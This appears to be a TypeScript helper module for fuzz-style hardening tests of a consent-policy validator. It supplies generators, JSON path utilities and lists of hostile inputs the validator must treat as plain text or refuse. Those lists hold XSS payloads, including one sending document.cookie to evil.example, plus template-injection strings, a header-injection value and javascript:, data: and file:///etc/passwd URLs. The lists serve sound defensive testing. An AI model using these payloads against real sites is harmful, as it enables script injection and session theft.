/**
 * Shared generators and helpers for the hardening tests (test/hardening/**).
 *
 * Run counts: every property uses `runs(n)`, which is `n` by default and at least the value of
 * the environment variable INAPP_CONSENT_FUZZ_RUNS when it is set, e.g.
 *   INAPP_CONSENT_FUZZ_RUNS=5000 npx vitest run test/hardening
 * The defaults keep the whole folder well under 30 s on two cores.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { POLICY_SHAPE } from '../../src/core/policy-shape.js';
import type { PolicyDocument } from '../../src/core/policy-types.js';
import type { Shape, StringShape } from '../../src/core/shape.js';

// ---------------------------------------------------------------------------------------------
// Run counts

const RAISED = Number(process.env.INAPP_CONSENT_FUZZ_RUNS ?? '');

/** The number of runs for a property: `base`, or INAPP_CONSENT_FUZZ_RUNS when that is larger. */
export function runs(base: number): number {
  return Number.isFinite(RAISED) && RAISED > base ? Math.floor(RAISED) : base;
}

/** Per-test timeout: vitest's default normally; no practical limit once the runs are raised. */
export const FUZZ_TIMEOUT = Number.isFinite(RAISED) && RAISED > 0 ? 6 * 3600_000 : 20_000;

/** A tally of generated cases per name, printed by each file's afterAll for SECURITY.md. */
export class Counts {
  private readonly tally = new Map<string, number>();
  constructor(private readonly file: string) {}
  add(name: string, by = 1): void {
    this.tally.set(name, (this.tally.get(name) ?? 0) + by);
  }
  get(name: string): number {
    return this.tally.get(name) ?? 0;
  }
  print(): void {
    const lines = [...this.tally].map(([name, count]) => `  ${name}: ${count}`);
    console.log(`[hardening] ${this.file}\n${lines.join('\n')}`);
  }
}

// ---------------------------------------------------------------------------------------------
// Seeds

const POLICIES_DIR = fileURLToPath(new URL('../../examples/policies/', import.meta.url));

export interface Seed {
  readonly name: string;
  readonly document: PolicyDocument;
}

/** The real seed policies in examples/policies (all of them: a new seed joins every test). */
export const SEEDS: readonly Seed[] = readdirSync(POLICIES_DIR)
  .filter((file) => file.endsWith('.json'))
  .sort()
  .map((file) => ({ name: file.replace(/\.json$/, ''), document: JSON.parse(readFileSync(POLICIES_DIR + file, 'utf8')) as PolicyDocument }));

/** A fresh, mutable copy of a seed document. */
export const cloneDocument = <T>(document: T): T => structuredClone(document);

// ---------------------------------------------------------------------------------------------
// JSON paths, written the way the validator writes them: `permissions[2].requester.sdkId`.

export type Segment = string | number;
type Json = unknown;

const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);
const own = (value: object, key: string) => Object.prototype.hasOwnProperty.call(value, key);

export function formatPath(segments: readonly Segment[]): string {
  let out = '';
  for (const segment of segments) out = typeof segment === 'number' ? `${out}[${segment}]` : out ? `${out}.${segment}` : segment;
  return out;
}

/** Every node of a JSON document (the root included), as segment lists. */
export function allPaths(document: Json): Segment[][] {
  const out: Segment[][] = [];
  const walk = (node: Json, at: Segment[]) => {
    out.push(at);
    if (Array.isArray(node)) node.forEach((item, index) => walk(item, [...at, index]));
    else if (isObject(node)) for (const key of Object.keys(node)) walk(node[key], [...at, key]);
  };
  walk(document, []);
  return out;
}

export function getAt(document: Json, segments: readonly Segment[]): Json {
  let node = document;
  for (const segment of segments) {
    if (Array.isArray(node) && typeof segment === 'number') node = node[segment];
    else if (isObject(node) && typeof segment === 'string' && own(node, segment)) node = node[segment];
    else return undefined;
  }
  return node;
}

/** Sets a value as an own property even for keys such as "__proto__" (as JSON.parse would). */
export function setAt(document: Json, segments: readonly Segment[], value: Json): Json {
  if (segments.length === 0) return value;
  const parent = getAt(document, segments.slice(0, -1));
  const last = segments[segments.length - 1]!;
  if (Array.isArray(parent) && typeof last === 'number') parent[last] = value;
  else if (isObject(parent)) Object.defineProperty(parent, String(last), { value, writable: true, enumerable: true, configurable: true });
  return document;
}

export function deleteAt(document: Json, segments: readonly Segment[]): Json {
  if (segments.length === 0) return undefined;
  const parent = getAt(document, segments.slice(0, -1));
  const last = segments[segments.length - 1]!;
  if (Array.isArray(parent) && typeof last === 'number') parent.splice(last, 1);
  else if (isObject(parent)) delete parent[String(last)];
  return document;
}

/**
 * Where a problem path points in `document`: `exists` (a node there), `missing` (the parent
 * exists and is an object without that field: "is required"), or `nowhere` (a path the
 * validator made up). Keys may themselves hold dots and brackets, so every split is tried.
 */
export function locatePath(document: Json, path: string): 'exists' | 'missing' | 'nowhere' {
  const FIELD = /^[A-Za-z$_][A-Za-z0-9$_]*$/;
  const walk = (node: Json, rest: string, root: boolean): 'exists' | 'missing' | 'nowhere' => {
    if (rest === '') return 'exists';
    if (Array.isArray(node)) {
      const match = /^\[(\d+)\]/.exec(rest);
      if (!match || Number(match[1]) >= node.length) return 'nowhere';
      return walk(node[Number(match[1])], rest.slice(match[0].length), false);
    }
    if (!isObject(node)) return 'nowhere';
    if (!root) {
      if (!rest.startsWith('.')) return 'nowhere';
      rest = rest.slice(1);
    }
    let best: 'missing' | 'nowhere' = 'nowhere';
    for (const key of Object.keys(node)) {
      if (!rest.startsWith(key)) continue;
      const next = rest.charAt(key.length);
      if (next !== '' && next !== '.' && next !== '[') continue;
      const found = walk(node[key], rest.slice(key.length), false);
      if (found === 'exists') return 'exists';
      if (found === 'missing') best = 'missing';
    }
    if (best === 'nowhere' && FIELD.test(rest) && !own(node, rest)) return 'missing';
    return best;
  };
  return walk(document, path, true);
}

// ---------------------------------------------------------------------------------------------
// The policy shape, walked alongside a document

/** The shape that describes the node at `segments` of a policy, or undefined for unknown fields. */
export function shapeAt(segments: readonly Segment[], shape: Shape = POLICY_SHAPE): Shape | undefined {
  let current: Shape | undefined = shape;
  for (const segment of segments) {
    while (current?.kind === 'nullable') current = current.of;
    if (current === undefined) return undefined;
    if (current.kind === 'array' && typeof segment === 'number') current = current.of;
    else if (current.kind === 'record' && typeof segment === 'string') current = current.of;
    else if (current.kind === 'object' && typeof segment === 'string' && own(current.props, segment)) current = current.props[segment];
    else return undefined;
  }
  return current;
}

const ID_PATTERN_SOURCE = '^[A-Za-z0-9][A-Za-z0-9_.-]{0,63}$';
export const isIdShape = (shape: Shape | undefined): boolean => shape?.kind === 'string' && shape.pattern?.source === ID_PATTERN_SOURCE;
/** A string field that holds free text a person reads (no pattern: not an id, date or URL). */
export const isFreeText = (shape: Shape | undefined): shape is StringShape => shape?.kind === 'string' && shape.pattern === undefined;

/** A non-blank string, unicode included. */
export const text = (maxLength = 24) => fc.string({ unit: 'grapheme', minLength: 1, maxLength }).filter((value) => value.trim().length > 0);

/** Values a leaf shape accepts (strings matching its pattern, numbers in range, enum members). */
export function validLeaf(shape: Shape): fc.Arbitrary<unknown> {
  switch (shape.kind) {
    case 'string': {
      const { pattern, minLength = 0 } = shape;
      if (pattern === undefined) return minLength > 0 ? text() : fc.string({ maxLength: 24 });
      // fast-check cannot build strings from look-aheads; the few patterns with one are listed.
      const source = pattern.source;
      const base = source.includes('(?=')
        ? fc.tuple(fc.nat(99), fc.nat(99), fc.nat(9)).map(([y, m, d]) => `P${y + 1}Y${m}M${d}D`)
        : fc.stringMatching(pattern);
      return base.filter((value) => pattern.test(value) && value.trim().length >= minLength);
    }
    case 'number': {
      const min = shape.min ?? -1e6;
      const max = shape.max ?? 1e6;
      return shape.integer ? fc.integer({ min: Math.ceil(min), max: Math.floor(max) }) : fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
    }
    case 'boolean':
      return fc.boolean();
    case 'enum':
      return fc.constantFrom(...shape.values);
    case 'nullable':
      // A nullable object (crossBorder) is replaced only by null here.
      return ['object', 'array', 'record'].includes(shape.of.kind) ? fc.constant(null) : fc.oneof(fc.constant(null), validLeaf(shape.of));
    default:
      throw new Error(`validLeaf: ${shape.kind} is not a leaf`);
  }
}

// ---------------------------------------------------------------------------------------------
// Hostile input

/** Keys that reach Object.prototype when a document is read with `in` or a plain index. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__'] as const;
/** Of those, the ones a policy id may legally be (letters first): they must behave like any id. */
export const PROTOTYPE_IDS = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', 'propertyIsEnumerable', 'toLocaleString'] as const;

/**
 * Text an attacker (or a careless translator) could put in a policy: markup, script, event
 * handlers, script URLs, template syntax, bidi and zero-width tricks, NUL, lone surrogates.
 * Every one must stay plain text: validated as text, hashed, never interpreted.
 */
export const HOSTILE_TEXT: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '"><script>alert(document.cookie)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="fetch(\'https://evil.example/?\'+document.cookie)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">悬停</div>',
  '<button onclick="alert(1)">同意</button>',
  '<a href="javascript:alert(1)">隐私政策</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action="https://evil.example"><input name=phone></form>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= 7*7 %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '\u202e同意\u202c不同意',
  '同\u200b意',
  'a\u0000b',
  '\r\nSet-Cookie: x=1',
  '\ud800 lone high surrogate',
  'lone low surrogate \udfff',
  '😀👨‍👩‍👧 emoji',
  '__proto__',
  'constructor',
  '<!--',
  ']]><![CDATA[',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

/** URLs a link must never open (script, data, other schemes); each is refused by every URL field. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(document.domain)',
  ' javascript:alert(1)',
  'javascript:alert(1) ',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0Aalert(1)',
  'javascript:void(0)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,x',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.com/1e3a',
  'filesystem:https://example.com/temporary/x',
  'intent://scan/#Intent;scheme=zxing;package=com.example;end',
  'weixin://dl/business',
  'about:blank',
  'https://example.com/ javascript:alert(1)',
  'https://example.com/\njavascript:alert(1)',
  'https:/\\example.com',
  'https:example.com',
  'ftp://example.com/policy',
  '',
  ' ',
];

/** An arbitrary string that may hold lone surrogates, NUL and any code point. */
export const anyText = (maxLength = 40) =>
  fc.string({
    maxLength,
    unit: fc.oneof(
      { weight: 6, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
      { weight: 1, arbitrary: fc.integer({ min: 0xd800, max: 0xdfff }).map((unit) => String.fromCharCode(unit)) },
      { weight: 1, arbitrary: fc.constantFrom('\u0000', '"', '\\', '<', '>', '&', '\u2028', '\u2029', '\ufffd', '\ufeff') },
    ),
  });

/** JSON values whose object keys include "__proto__" and other prototype names as own keys. */
export const jsonWithPrototypeKeys: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    anyText(12),
    fc.array(tie('value'), { maxLength: 4 }),
    fc
      .array(fc.tuple(fc.oneof(anyText(8), fc.constantFrom(...PROTOTYPE_KEYS)), tie('value')), { maxLength: 4 })
      .map((pairs) => {
        const out: Record<string, unknown> = {};
        for (const [key, value] of pairs) Object.defineProperty(out, key, { value, writable: true, enumerable: true, configurable: true });
        return out;
      }),
  ),
})).value;

/** Nested arrays or objects `depth` levels deep, built without recursion. */
export function deeplyNested(depth: number, kind: 'array' | 'object'): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = kind === 'array' ? [value] : { nested: value };
  return value;
}
